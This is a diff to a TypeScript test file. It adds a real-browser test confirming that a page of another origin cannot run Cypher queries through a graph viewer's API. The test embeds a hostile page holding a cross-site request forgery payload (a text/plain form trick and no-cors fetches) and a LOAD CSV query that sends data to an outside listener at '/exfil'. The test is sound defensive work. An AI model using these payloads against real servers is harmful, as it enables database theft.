@@ -5,11 +5,13 @@
  * Each case also checks the graph is exactly as before and the store never ran the query.
  */
 import { mkdtempSync, writeFileSync } from 'node:fs';
-import { request } from 'node:http';
+import { createServer, request } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { Graph as Neo4jGraph } from '../../graph/driver.js';
 import { dumpGraph, type GraphDump } from '../../graph/dump.js';
+import { launchChromium } from '../../viewer/chromium.js';
 import { startViewer, type Viewer } from '../../viewer/server.js';
 import { createNeo4jStore, type ViewerStore } from '../../viewer/store.js';
 import { emptyGraph, openTestGraph } from '../support/graph.js';
@@ -215,3 +217,43 @@ test('abuse: foreign Host, oversized body, malformed JSON, path traversal', asyn
   expect((await send('/')).body).toBe('<!doctype html><title>kg</title>');
   expect(ran).toEqual([]);
 });
+
+test('in a real browser, a page of another origin cannot run Cypher through the viewer', async () => {
+  const target = `${viewer.url}api/cypher`;
+  const body = JSON.stringify({ query: `LOAD CSV FROM '${listener.url}/exfil' AS l RETURN l` });
+  // What any web page the user visits could do: a text/plain form post, and fetches with and without CORS.
+  const hostile = `<!doctype html><body>
+<iframe name="sink"></iframe>
+<form id="f" method="POST" action="${target}" enctype="text/plain" target="sink">
+<input name='${body.slice(0, -2)}' value='"}'></form>
+<script>
+(async () => {
+  document.getElementById('f').submit();
+  const tries = [
+    fetch(${JSON.stringify(target)}, { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: ${JSON.stringify(body)} }),
+    fetch(${JSON.stringify(target)}, { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: 'query=MATCH%20(n)%20RETURN%20n' }),
+    fetch(${JSON.stringify(target)}, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: ${JSON.stringify(body)} }),
+  ];
+  const results = await Promise.allSettled(tries);
+  await new Promise((r) => setTimeout(r, 500));
+  document.title = 'done ' + results.map((r) => r.status).join(',');
+})();
+</script></body>`;
+  const page = createServer((_req, res) => {
+    res.writeHead(200, { 'Content-Type': 'text/html' });
+    res.end(hostile);
+  });
+  await new Promise<void>((resolve) => page.listen(0, '127.0.0.1', resolve));
+  const browser = await launchChromium();
+  try {
+    const tab = await browser.newPage();
+    await tab.goto(`http://127.0.0.1:${(page.address() as AddressInfo).port}/`);
+    await tab.waitForFunction(() => document.title.startsWith('done'), undefined, { timeout: 20_000 });
+    // the no-cors requests were sent (and refused); the JSON one never passed its preflight
+    expect(await tab.title()).toBe('done fulfilled,fulfilled,rejected');
+  } finally {
+    await browser.close();
+    page.close();
+  }
+  expect(ran).toEqual([]);
+}, 60_000);
